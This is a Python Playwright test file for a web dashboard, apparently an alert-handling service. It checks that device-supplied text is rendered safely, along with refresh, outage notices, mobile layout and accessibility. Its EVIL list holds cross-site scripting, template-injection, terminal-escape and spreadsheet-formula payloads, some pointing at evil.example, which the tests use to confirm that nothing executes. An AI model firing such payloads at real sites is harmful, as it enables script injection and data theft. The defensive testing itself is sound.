"""The page as people use it: a real browser, real servers, and the worst that devices send."""

import re
from typing import Any

import msgspec
import pytest
from playwright.async_api import Page, expect

from muttd import __version__
from muttd.event import Alert, Varbind
from muttd.pipeline.queue.board import Board
from muttd.pipeline.queue.lanes import DEAD_LETTERS, FACTS, DeadLetter, Fact
from muttd.pipeline.queue.outcomes import UNHANDLED, About
from muttd.web.pages import VIEWS
from tests.browser import Tab, log_in, visit
from tests.page import Site, event, row

pytestmark = pytest.mark.needs("chromium")

EVIL = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "\"><svg onload=document.title='owned'>",
    "'-document.title='owned'-'",
    "javascript:document.title='owned'",
    "{{constructor.constructor('document.title=1')()}}",
    "</td></tr></table><iframe srcdoc=\"<script>parent.document.title='owned'</script>\">",
    "\u202e\u2066 reversed \u2069 \u0007\x1b]0;owned\x07",
    '=HYPERLINK("http://evil.example")',
    "<a href=javascript:alert(1)>click</a><form action=//evil.example><input name=key>",
]


WIDER = "document.documentElement.scrollWidth > innerWidth"


async def fill(site: Site, texts: list[str]) -> None:
    """Every place where the page shows what came from outside gets each of `texts`."""
    rows, letters = [], []
    facts: dict[Any, Any] = {}
    for number, text in enumerate(texts):
        clean = text.replace("\x00", "")
        about = event(
            number,
            hostname=clean[:200].lower(),
            message=clean,
            app_name=clean,
            raw=clean,
            defects=[clean],
            structured_data={clean: {clean: clean}},
            trap_oid="1.3.6.1",
            trap_name=clean,
            varbinds=[Varbind("1.3", "OctetString", clean, clean, clean)],
        )
        rows.append(row(about, team=clean, rule_id=number + 1))
        facts[about.id] = msgspec.json.encode(
            Fact(state="dead", attempts=3, time=about.received_at, status=500, reason=clean)
        )
        alert = Alert(
            id=about.id, handling=clean, team=clean, environment="prod", decided_at=about.received_at, event=about
        )
        letters.append(msgspec.json.encode(DeadLetter(id=about.id, time="x", reason=clean, attempts=1, alert=alert)))
        about_kind = About(host=clean, template=clean, team=clean, environment="prod", sample=about)
        await site.redis.zadd(UNHANDLED + "windows", {clean: 1})
        await site.redis.hset(UNHANDLED + "about", clean, msgspec.json.encode(about_kind))
        await site.redis.set(f"mutt:heartbeat:alerter:{number}", clean, px=600_000)
        rule = {"name": clean, "match_type": "contains", "match_string": clean, "host_pattern": clean[:200]}
        handlings = {"prod_handling": "Page_only", "dev_handling": "Log_only"}
        await site.send("POST", "/api/v1/rules", {**rule, **handlings, "reason": "to see it"}, 201)
    await site.store.write_audit("b", rows)
    await site.redis.hset(FACTS, mapping=facts)
    await site.redis.lpush(DEAD_LETTERS, *letters)
    await site.redis.hset("mutt:circuit:moog", mapping={"until": 9e15, "reason": texts[0], "since": 1, "openings": 1})
    counts = {f"received:{texts[0]}": 1, f"dropped:{texts[1]}:{texts[0]}": 1}
    await Board(site.redis).report("a process", counts, disk={}, memory=0)


async def test_what_devices_send_never_runs(site: Site, tab: Tab) -> None:
    page = tab.page
    await fill(site, EVIL)
    await log_in(site, page)
    made = "main script, main iframe, main img, [onerror], [onload], a[href^=javascript]"
    for view in VIEWS:
        await visit(site, page, view)
        if view not in {"/live", "/keys"}:  # Live shows what is decided from now on, Keys what administrators wrote
            await expect(page.locator("body")).to_contain_text(EVIL[0])
        assert "owned" not in await page.title()
        assert await page.locator(made).count() == 0
    for number in range(len(EVIL)):
        await page.goto(f"{site.address}/events?event={event(number).id}")
        await page.get_by_role("button", name="Explain with the current rules").click()
        await expect(page.get_by_role("dialog")).to_contain_text("Decision")
        assert "owned" not in await page.title()
    assert tab.complaints == []


async def test_the_dashboard_refreshes_itself_and_keeps_its_filter(site: Site, page: Page) -> None:
    await site.store.write_audit("a", [row(event(1, message="first"))])
    await log_in(site, page)
    await expect(page.locator(".events")).to_contain_text("first")
    await site.store.write_audit("b", [row(event(2, message="second", hostname="core-2"))])
    await expect(page.locator(".events")).to_contain_text("second")
    await page.get_by_label("Host").fill("core-2")
    await expect(page.locator(".events tbody tr")).to_have_count(1)
    await expect(page).to_have_url(re.compile(r"/\?host=core-2$"))
    await page.reload()
    await expect(page.locator(".events tbody tr")).to_have_count(1)
    await expect(page.get_by_role("region", name="Top talkers")).to_contain_text("core-")
    await page.get_by_role("button", name="kind").click()
    await expect(page).to_have_url(re.compile("by=kind"))
    await Board(site.redis).report("a process", {"dropped:syslog_udp:kernel": 17}, disk={}, memory=0)
    await expect(page.locator(".alarm.critical").first).to_contain_text("17 events lost")
    await page.locator(".alarm.critical a").first.click()
    await expect(page.get_by_role("region", name="Services")).to_contain_text("17: syslog_udp, kernel")
    await page.get_by_role("button", name="Log out").click()
    await expect(page.get_by_label("API key")).to_be_visible()


async def test_what_is_old_is_said_so_until_it_is_new_again(site: Site, page: Page) -> None:
    await log_in(site, page)
    away = {"title": "Service Unavailable", "status": 503, "detail": "Redis is away."}
    asked = "**/api/v1/metrics/current"
    await page.route(asked, lambda route: route.fulfill(status=503, json=away))
    await expect(page.locator(".alarm.critical").first).to_contain_text("not up to date")
    await expect(page.locator(".alarm.critical").first).to_contain_text("Redis is away.")
    await expect(page.locator("#link-state")).to_have_text("not live")
    assert "⚠" in await page.title()
    await page.unroute(asked)
    await expect(page.locator("#link-state")).to_have_text("live")
    await expect(page.locator(".alarm", has_text="not up to date")).to_have_count(0)
    stored = "**/api/v1/audit-logs*"
    await page.route(stored, lambda route: route.fulfill(status=503, json={**away, "detail": "PostgreSQL is away."}))
    await expect(page.get_by_role("region", name="Newest events")).to_contain_text("PostgreSQL is away.")
    await expect(page.locator("#link-state")).to_have_text("live")
    await page.unroute(stored)
    await expect(page.get_by_role("region", name="Newest events")).not_to_contain_text("PostgreSQL is away.")


async def test_on_a_telephone_one_sees_where_one_is(site: Site, page: Page) -> None:
    await page.set_viewport_size({"width": 360, "height": 780})
    await log_in(site, page, "/status")
    await expect(page.locator("nav [aria-current]")).to_be_in_viewport(ratio=0.9)
    await page.locator("nav a").first.click()
    await expect(page.locator("nav [aria-current]", has_text="Dashboard")).to_be_in_viewport(ratio=0.9)


async def test_status_shows_processes_and_that_the_books_balance(site: Site, page: Page) -> None:
    await Board(site.redis).beat("alerter", "host-a", {"state": "deciding"}, 600)
    await log_in(site, page, "/status")
    await expect(page.get_by_role("region", name="Processes")).to_contain_text(f"host-adeciding{__version__}")
    await expect(page.get_by_role("region", name="Services")).to_contain_text("no events in spools")
    await expect(page.get_by_role("region", name="Services")).to_contain_text("partitions ready for")
    await expect(page.get_by_role("region", name="Services")).to_contain_text("Certificate http.tls_cert")
    await expect(page.get_by_role("region", name="Ledger")).to_contain_text("✓ balanced")


@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_everybody_can_use_every_page(site: Site, tab: Tab, theme: Any) -> None:
    page = tab.page
    await page.emulate_media(color_scheme=theme, reduced_motion="reduce")
    await fill(site, ["Interface GigabitEthernet0/0/0/" + "1" * 60, "power supply failed"])
    await site.send("POST", "/api/v1/teams", {"hostname": "core-*", "team_assignment": "network"}, 201)
    await site.send("POST", "/api/v1/dev-hosts", {"hostname": "a-very-long-pattern-*.lab.example.com"}, 201)
    await page.goto(site.address)
    faults = [f"log-in: {fault}" for fault in await tab.unreachable()]
    await log_in(site, page)
    for view in VIEWS:
        await visit(site, page, view)
        await page.wait_for_selector("main .empty" if view == "/live" else "main tbody tr, main .empty")
        faults += [f"{view}: {fault}" for fault in await tab.unreachable()]
        for width in (360, 1280, 2560):
            await page.set_viewport_size({"width": width, "height": 900})
            if await page.evaluate(WIDER):
                faults.append(f"{view}: wider than {width}")
    for view, button in (("/rules", "tr.link button"), ("/delivery", "td .actions button"), ("/events", "td button")):
        await visit(site, page, view)
        await page.locator(button).first.click()
        await expect(page.get_by_role("dialog")).to_be_visible()
        faults += [f"{view}, dialog: {fault}" for fault in await tab.unreachable()]
    assert not faults, "\n".join(faults)
